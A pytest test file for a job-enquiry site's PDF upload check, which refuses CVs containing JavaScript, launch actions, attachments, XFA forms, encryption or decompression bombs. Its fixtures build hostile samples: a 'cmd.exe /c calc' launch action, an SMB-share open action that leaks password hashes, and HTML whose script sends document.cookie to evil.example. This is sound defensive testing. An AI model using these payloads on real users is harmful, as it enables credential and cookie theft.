"""The CV check: PDFs that ordinary tools write pass; anything that can act when opened, carry
other files or hide what it is, is refused, on its own and through the form."""

import io
import os
import re
import subprocess
import sys
import time
import zlib
from collections.abc import Callable
from html import unescape
from pathlib import Path

import pikepdf
import pytest
from flask import Flask
from flask.testing import FlaskClient
from pikepdf import Array, Dictionary, Name, String
from werkzeug.test import TestResponse

from openpositions.enquiries.intake.contained_check import ContainedChecks, contained_cv_problem
from openpositions.enquiries.intake.cv_check import MAX_ITEMS, CvProblem, cv_problem
from openpositions.enquiries.intake.document_field import PROBLEM_MESSAGES
from tests.support.app import queued_tasks, stored_enquiries
from tests.support.chromium import CHROMIUM
from tests.support.forms import PDF_BYTES, VALID_ENQUIRY, multipart
from tests.support.pdfs import array_bomb, object_stream_bomb
from tests.support.smtp import SmtpSink

CV_TEXT = b"BT /F1 24 Tf 72 720 Td (Ada Lovelace) Tj 0 -36 Td /F1 12 Tf (Curriculum vitae) Tj ET"


def saved(
    pdf: pikepdf.Pdf,
    *,
    object_stream_mode: pikepdf.ObjectStreamMode = pikepdf.ObjectStreamMode.preserve,
    encryption: pikepdf.Encryption | None = None,
    compress_streams: bool = True,
) -> bytes:
    """The PDF's bytes as pikepdf writes them; the options and defaults are those of Pdf.save."""
    out = io.BytesIO()
    pdf.save(
        out,
        object_stream_mode=object_stream_mode,
        encryption=encryption,
        compress_streams=compress_streams,
    )
    return out.getvalue()


def cv_document(pages: int = 2) -> pikepdf.Pdf:
    """A CV as pdfTeX, LibreOffice or Word write one: text in a font, a link to a website,
    bookmarks, a fillable field, document information and XMP metadata."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for _ in range(pages):
        page = pikepdf.Page(pdf.add_blank_page(page_size=(595, 842)))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(CV_TEXT)
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[72, 680, 300, 700],
        Border=[0, 0, 0],
        A=Dictionary(Type=Name.Action, S=Name.URI, URI=String("https://example.org/ada")),
    )
    name_field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("signature"),
            V=String("Ada Lovelace"),
            Rect=[72, 100, 300, 120],
            P=pdf.pages[0].obj,
        )
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link), name_field])
    pdf.Root.AcroForm = Dictionary(Fields=[name_field], DA=String("/F1 12 Tf 0 g"))
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Education", 0))
        outline.root.append(pikepdf.OutlineItem("Publications", pages - 1))
    pdf.docinfo[Name.Title] = String("Curriculum vitae")
    pdf.docinfo[Name.Author] = String("Ada Lovelace")
    pdf.docinfo[Name.Producer] = String("pdfTeX-1.40.25")
    with pdf.open_metadata() as metadata:
        metadata["dc:title"] = "Curriculum vitae"
    return pdf


def javascript_action(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('hello')")))


# Each builds a CV and gives it one thing the professor's viewer would act on.


def open_action_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('x')"))


def page_open_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=javascript_action(pdf))


def javascript_name_tree(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=[String("init"), javascript_action(pdf)])
    )


def javascript_in_a_stream(pdf: pikepdf.Pdf) -> None:
    script = pdf.make_stream(b"app.alert('hello')")
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=script)


def javascript_after_a_link(pdf: pikepdf.Pdf) -> None:
    (link, _) = pdf.pages[0].obj.Annots
    link.A.Next = javascript_action(pdf)


def javascript_in_a_form_field(pdf: pikepdf.Pdf) -> None:
    (_, field) = pdf.pages[0].obj.Annots
    field.AA = Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("event.rc = true")))


def javascript_in_a_bookmark(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Outlines.First.A = javascript_action(pdf)


def launch_action(pdf: pikepdf.Pdf) -> None:
    (link, _) = pdf.pages[0].obj.Annots
    link.A = Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe"))


def launch_on_open(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    )


def open_action_to_a_share(pdf: pikepdf.Pdf) -> None:
    # The known leak of Windows readers: opening a file on a share sends the password's hash.
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoToR, F=String("\\\\203.0.113.9\\share\\x.pdf"), D=Array([0, Name.Fit])
    )


def open_action_to_a_website(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(S=Name.URI, URI=String("https://tracker.example/opened"))
    )


def open_action_submitting_a_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))


def page_open_to_an_embedded_document(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.GoToE, D=Array([0, Name.Fit])))


def page_open_importing_data(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.ImportData, F=String("data.fdf")))


def page_open_playing_media(pdf: pikepdf.Pdf) -> None:
    pdf.pages[-1].obj.AA = Dictionary(C=Dictionary(S=Name.Rendition, OP=0))


def mouse_over_a_link_to_a_website(pdf: pikepdf.Pdf) -> None:
    (link, _) = pdf.pages[0].obj.Annots
    link.AA = Dictionary(E=Dictionary(S=Name.URI, URI=String("https://tracker.example/hover")))


def website_after_an_opening_view(pdf: pikepdf.Pdf) -> None:
    # A harmless first action (show page 1) that chains one that is not.
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoTo,
        D=Array([pdf.pages[0].obj, Name.Fit]),
        Next=Array([Dictionary(S=Name.URI, URI=String("https://tracker.example/chained"))]),
    )


def embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["references.docx"] = pikepdf.AttachedFileSpec(pdf, b"PK\x03\x04 a document")


def file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ a program", filename="setup.exe")
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[10, 10, 30, 30], FS=spec.obj
    )
    pdf.pages[0].obj.Annots.append(pdf.make_indirect(annotation))


def xfa_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")


REFUSED: list[tuple[Callable[[pikepdf.Pdf], None], CvProblem]] = [
    (open_action_javascript, CvProblem.JAVASCRIPT),
    (page_open_javascript, CvProblem.JAVASCRIPT),
    (javascript_name_tree, CvProblem.JAVASCRIPT),
    (javascript_in_a_stream, CvProblem.JAVASCRIPT),
    (javascript_after_a_link, CvProblem.JAVASCRIPT),
    (javascript_in_a_form_field, CvProblem.JAVASCRIPT),
    (javascript_in_a_bookmark, CvProblem.JAVASCRIPT),
    (launch_action, CvProblem.LAUNCH_ACTION),
    (launch_on_open, CvProblem.LAUNCH_ACTION),
    (open_action_to_a_share, CvProblem.ACTS_WHEN_OPENED),
    (open_action_to_a_website, CvProblem.ACTS_WHEN_OPENED),
    (open_action_submitting_a_form, CvProblem.ACTS_WHEN_OPENED),
    (page_open_to_an_embedded_document, CvProblem.ACTS_WHEN_OPENED),
    (page_open_importing_data, CvProblem.ACTS_WHEN_OPENED),
    (page_open_playing_media, CvProblem.ACTS_WHEN_OPENED),
    (mouse_over_a_link_to_a_website, CvProblem.ACTS_WHEN_OPENED),
    (website_after_an_opening_view, CvProblem.ACTS_WHEN_OPENED),
    (embedded_file, CvProblem.EMBEDDED_FILE),
    (file_attachment_annotation, CvProblem.EMBEDDED_FILE),
    (xfa_form, CvProblem.XFA_FORM),
]

# Objects written one by one (LibreOffice) or packed into compressed object streams (Word,
# pdfTeX): either way every object is looked at.
OBJECT_STREAMS = [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate]


@pytest.mark.parametrize("object_streams", OBJECT_STREAMS, ids=["plain", "object-streams"])
def test_a_cv_as_ordinary_tools_write_it_passes(object_streams: pikepdf.ObjectStreamMode) -> None:
    assert cv_problem(saved(cv_document(), object_stream_mode=object_streams)) is None


@pytest.mark.parametrize(
    "opening",
    [
        # LaTeX's hyperref and Word open at the first page, fitted: a destination.
        lambda pdf: Array([pdf.pages[0].obj, Name.Fit]),
        # The same as a GoTo action, as some exporters write it.
        lambda pdf: Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.FitH, 842])),
    ],
    ids=["destination", "goto-action"],
)
def test_a_cv_that_opens_at_a_page_of_its_own_passes(
    opening: Callable[[pikepdf.Pdf], pikepdf.Object],
) -> None:
    pdf = cv_document()
    pdf.Root.OpenAction = opening(pdf)
    assert cv_problem(saved(pdf)) is None


def test_a_chain_of_actions_that_never_ends_is_refused_in_bounded_time() -> None:
    pdf = cv_document()
    action = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))
    action.Next = action  # Each action's next is itself.
    pdf.Root.OpenAction = action
    assert cv_problem(saved(pdf)) is CvProblem.TOO_COMPLEX


def test_a_one_page_pdf_passes() -> None:
    assert cv_problem(PDF_BYTES) is None


def test_a_page_printed_to_pdf_by_chromium_passes(tmp_path: Path) -> None:
    if not CHROMIUM.exists():
        reason = f"Debian's Chromium is not at {CHROMIUM} (apt-get install chromium)"
        if os.environ.get("CI") == "true":
            pytest.fail(f"{reason}; it is required in CI")
        pytest.skip(f"{reason}; the PDF it prints cannot be made")
    page = tmp_path / "cv.html"
    page.write_text(
        "<!doctype html><html lang='en'><head><meta charset='utf-8'><title>CV</title></head>"
        "<body><h1>Ada Lovelace</h1><p>Mathematician, <a href='https://example.org/ada'>"
        "example.org/ada</a></p><h2>Publications</h2><ol><li>Notes on the Analytical Engine"
        "</li></ol></body></html>",
        encoding="utf-8",
    )
    printed = tmp_path / "cv.pdf"
    subprocess.run(
        [
            str(CHROMIUM),
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            f"--print-to-pdf={printed}",
            page.as_uri(),
        ],  # fmt: skip
        check=True,
        capture_output=True,
        timeout=60,
    )
    data = printed.read_bytes()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        (link,) = pdf.pages[0].obj.Annots
        assert link.A.S == Name.URI, "the printed page keeps its link, a URI action"
    assert cv_problem(data) is None


@pytest.mark.parametrize("object_streams", OBJECT_STREAMS, ids=["plain", "object-streams"])
@pytest.mark.parametrize(("change", "problem"), REFUSED, ids=[c.__name__ for c, _ in REFUSED])
def test_a_cv_that_can_act_or_carries_files_is_refused(
    change: Callable[[pikepdf.Pdf], None],
    problem: CvProblem,
    object_streams: pikepdf.ObjectStreamMode,
) -> None:
    pdf = cv_document()
    change(pdf)
    assert cv_problem(saved(pdf, object_stream_mode=object_streams)) is problem


@pytest.mark.parametrize(
    ("user_password", "problem"),
    [("", CvProblem.ENCRYPTED), ("secret", CvProblem.PASSWORD_PROTECTED)],
    ids=["opens-without-password", "needs-password"],
)
def test_an_encrypted_cv_is_refused(user_password: str, problem: CvProblem) -> None:
    encryption = pikepdf.Encryption(owner="owner-secret", user=user_password, R=6)
    assert cv_problem(saved(cv_document(), encryption=encryption)) is problem


NOT_PDFS = {
    "html-behind-a-pdf-header": (
        b"%PDF-1.7\n<html><body><script>fetch('https://evil.example/'+document.cookie)"
        b"</script></body></html>\n%%EOF\n",
        CvProblem.DAMAGED,
    ),
    "truncated": (saved(cv_document())[:-300], CvProblem.DAMAGED),
    "garbage-after-the-header": (b"%PDF-1.4\n" + bytes(range(256)) * 40, CvProblem.DAMAGED),
    "header-further-in": (b"MZ\x90\x00" + saved(cv_document()), CvProblem.NOT_A_PDF),
    "png": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, CvProblem.NOT_A_PDF),
}


@pytest.mark.parametrize(("data", "problem"), NOT_PDFS.values(), ids=NOT_PDFS.keys())
def test_a_file_that_is_not_a_readable_pdf_is_refused(data: bytes, problem: CvProblem) -> None:
    assert cv_problem(data) is problem


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
NO_PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"


def hand_written_pdf(bodies: dict[int, bytes], packed_in: dict[int, int] | None = None) -> bytes:
    """A PDF written byte by byte with a cross-reference stream, for what pikepdf would tidy
    away on saving: objects nothing refers to, object streams as they come. `packed_in` maps
    an object number to the object stream it lives in (index 0 there)."""
    packed_in = packed_in or {}
    parts = [b"%PDF-1.7\n"]
    rows = {0: b"\x00" + bytes(4) + b"\xff\xff"}
    for number, body in bodies.items():
        rows[number] = b"\x01" + sum(map(len, parts)).to_bytes(4, "big") + bytes(2)
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    for number, stream_number in packed_in.items():
        rows[number] = b"\x02" + stream_number.to_bytes(4, "big") + bytes(2)
    xref_number = max(rows) + 1
    xref_offset = sum(map(len, parts))
    rows[xref_number] = b"\x01" + xref_offset.to_bytes(4, "big") + bytes(2)
    table = b"".join(rows[number] for number in sorted(rows))
    parts.append(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (xref_number, xref_number + 1, len(table), table, xref_offset)
    )
    return b"".join(parts)


def object_stream(packed: bytes, number: int) -> bytes:
    """Object `number` alone in a compressed object stream."""
    header = b"%d 0 " % number
    compressed = zlib.compress(header + packed, 9)
    return (
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\n"
        % (
            len(header),
            len(compressed),
        )
        + b"stream\n%s\nendstream" % compressed
    )


def test_the_hand_written_pdf_passes_as_it_is() -> None:
    assert cv_problem(hand_written_pdf({1: CATALOG, 2: NO_PAGES})) is None
    packed = hand_written_pdf(
        {1: CATALOG[:-2] + b"/Extra 3 0 R >>", 2: NO_PAGES, 4: object_stream(b"<< >>", 3)},
        packed_in={3: 4},
    )
    assert cv_problem(packed) is None


def test_javascript_that_nothing_refers_to_is_refused() -> None:
    # Not reachable from the catalog, yet in the file for a lenient viewer to find.
    script = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    assert cv_problem(hand_written_pdf({1: CATALOG, 2: NO_PAGES, 3: script})) is (
        CvProblem.JAVASCRIPT
    )
    packed = hand_written_pdf(
        {1: CATALOG, 2: NO_PAGES, 4: object_stream(script, 3)}, packed_in={3: 4}
    )
    assert cv_problem(packed) is CvProblem.JAVASCRIPT


def test_a_name_spelled_with_escapes_is_still_found() -> None:
    catalog = CATALOG[:-2] + b"/OpenAction 3 0 R >>"
    script = b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"
    data = hand_written_pdf({1: catalog, 2: NO_PAGES, 3: script})
    assert cv_problem(data) is CvProblem.JAVASCRIPT


def test_names_that_are_not_utf8_are_read_too() -> None:
    # PDF names are bytes; a font or resource may be named in Latin-1.
    catalog = CATALOG[:-2] + b"/Caf#E9 << /S /Caf#E9 >> >>"
    assert cv_problem(hand_written_pdf({1: catalog, 2: NO_PAGES})) is None
    hidden = CATALOG[:-2] + b"/Caf#E9 << /S /JavaScript /JS (app.alert(1)) >> >>"
    assert cv_problem(hand_written_pdf({1: hidden, 2: NO_PAGES})) is CvProblem.JAVASCRIPT


def test_a_decompression_bomb_in_an_object_stream_is_refused_quickly() -> None:
    script = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    bomb = object_stream(script + b" " * (64 * 1024 * 1024), 3)
    assert len(bomb) < 1024 * 1024, "64 MB of spaces packed in under 1 MB"
    data = hand_written_pdf({1: CATALOG, 2: NO_PAGES, 4: bomb}, packed_in={3: 4})
    started = time.perf_counter()
    assert cv_problem(data) is CvProblem.DAMAGED
    assert time.perf_counter() - started < 2


@pytest.mark.parametrize("indirect", [False, True], ids=["items", "objects"])
def test_a_file_with_more_than_can_be_checked_is_refused_quickly(indirect: bool) -> None:
    pdf = cv_document()
    padding = [Dictionary(N=n) for n in range(MAX_ITEMS // 2)]
    pdf.Root.Padding = Array(map(pdf.make_indirect, padding) if indirect else padding)
    data = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    started = time.perf_counter()
    assert cv_problem(data) is CvProblem.TOO_COMPLEX
    assert time.perf_counter() - started < 2


def test_a_10_mb_cv_is_checked_well_within_a_second_or_two() -> None:
    # A CV of scanned pages: large images, which the check need not decompress.
    pdf = cv_document(pages=8)
    for page in pdf.pages:
        scan = pdf.make_stream(
            zlib.compress(os.urandom(1200 * 1000), 1),
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=1000,
            Height=400,
            ColorSpace=Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=Name.FlateDecode,
        )
        page.obj.Resources.XObject = Dictionary(Scan=scan)
    data = saved(pdf, compress_streams=False)
    assert 9 * 1024 * 1024 < len(data) <= 10 * 1024 * 1024
    started = time.perf_counter()
    assert cv_problem(data) is None
    assert time.perf_counter() - started < 1


def test_every_problem_has_a_message_that_says_what_to_do() -> None:
    assert set(PROBLEM_MESSAGES) == set(CvProblem)


# Through the form: a refused CV comes back by its field with what to do, and nothing is kept.


def post_cv(client: FlaskClient, data: bytes, language: str = "en") -> TestResponse:
    fields = {**VALID_ENQUIRY, "cv": (data, "cv.pdf", "application/pdf")}
    url = "/enquiry" if language == "en" else f"/{language}/enquiry"
    return client.post(url, **multipart(fields))


def refused_cv(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    pdf = cv_document()
    change(pdf)
    return saved(pdf)


@pytest.mark.database
@pytest.mark.parametrize(
    ("data", "message"),
    [
        (refused_cv(open_action_javascript), "The selected file contains JavaScript"),
        (refused_cv(launch_action), "contains an action that starts other programs"),
        (refused_cv(embedded_file), "has other files attached to it"),
        (refused_cv(xfa_form), "is a dynamic (XFA) form"),
        (NOT_PDFS["html-behind-a-pdf-header"][0], "The selected file is damaged or not a PDF"),
        (
            saved(cv_document(), encryption=pikepdf.Encryption(owner="o", user="u")),
            "The selected file is password-protected; save it without a password",
        ),
    ],
    ids=["javascript", "launch", "embedded-file", "xfa", "html", "password"],
)
def test_a_refused_cv_is_shown_by_its_field_and_nothing_is_stored(
    app: Flask, client: FlaskClient, smtp: SmtpSink, data: bytes, message: str
) -> None:
    response = post_cv(client, data)
    assert response.status_code == 422
    text = unescape(response.get_data(as_text=True))
    assert re.search(r'id="cv-error">.*' + re.escape(message), text, re.DOTALL)
    assert '<a href="#cv">' in text, "the error summary links to the field"
    assert stored_enquiries(app) == []
    assert queued_tasks(app) == 0
    assert smtp.received == []


def test_the_refusal_is_in_the_visitors_language(app: Flask, client: FlaskClient) -> None:
    response = post_cv(client, refused_cv(open_action_javascript), language="de")
    assert response.status_code == 422
    assert "Die ausgewählte Datei enthält JavaScript; drucken Sie sie als PDF" in unescape(
        response.get_data(as_text=True)
    )
    assert stored_enquiries(app) == []


@pytest.mark.database
def test_a_good_cv_is_stored_and_attached_to_the_professors_mail(
    app: Flask, client: FlaskClient, smtp: SmtpSink, consumer: None
) -> None:
    data = saved(cv_document(), object_stream_mode=pikepdf.ObjectStreamMode.generate)
    response = post_cv(client, data)
    assert response.status_code == 303
    (enquiry,) = stored_enquiries(app)
    assert [(d.filename, d.size) for d in enquiry.documents] == [("cv.pdf", len(data))]
    mails = smtp.wait_for(2)
    (to_professor,) = [m for m in mails if "professor@rsim.example.org" in m.rcpt_tos]
    (attachment,) = list(to_professor.message.iter_attachments())
    assert attachment.get_content_type() == "application/pdf"
    assert attachment.get_payload(decode=True) == data


# --- Hostile files, checked where they cannot hold a worker ---------------------------------------


def test_the_contained_check_says_what_the_check_says() -> None:
    pdf = cv_document()
    open_action_javascript(pdf)
    for data in (saved(cv_document()), saved(pdf), PDF_BYTES, b"MZ not a pdf"):
        assert contained_cv_problem(data) is cv_problem(data)


def test_a_file_that_would_take_gigabytes_is_refused_as_too_complex() -> None:
    # In the web worker itself this took 2.4 s and 780 MB, and a worker kept the memory after.
    assert contained_cv_problem(array_bomb(2_400_000)) is CvProblem.TOO_COMPLEX


def test_without_a_child_process_the_check_still_runs_and_says_so(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr(sys, "executable", "/nonexistent/python")
    pdf = cv_document()
    open_action_javascript(pdf)
    assert contained_cv_problem(saved(pdf)) is CvProblem.JAVASCRIPT
    assert contained_cv_problem(PDF_BYTES) is None
    assert "could not start its child process" in caplog.text


def test_one_child_checks_a_requests_files_in_turn_and_a_hostile_one_stops_only_itself(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    started: list[object] = []
    real_start = ContainedChecks.start

    def counted_start(checks: ContainedChecks) -> None:
        started.append(checks)
        real_start(checks)

    monkeypatch.setattr(ContainedChecks, "start", counted_start)
    pdf = cv_document()
    open_action_javascript(pdf)
    ordinary = [saved(cv_document()), PDF_BYTES, saved(cv_document())]
    with ContainedChecks() as checks:
        assert [checks.problem(data) for data in ordinary] == [None, None, None]
        assert len(started) == 1, "one start for the request's files"
        # Half a minute of inflating in-process: past the CPU limit however fast the machine
        # (the array bomb may end inside the child's own item budget on a quiet one).
        assert checks.problem(object_stream_bomb(838)) is CvProblem.TOO_COMPLEX
        # The child that the bomb stopped is replaced; the files after it are checked as ever.
        assert checks.problem(saved(pdf)) is CvProblem.JAVASCRIPT
        assert checks.problem(b"MZ not a pdf") is CvProblem.NOT_A_PDF
        assert checks.problem(PDF_BYTES) is None
    assert len(started) == 2
    assert checks.child is None, "ended with the request"
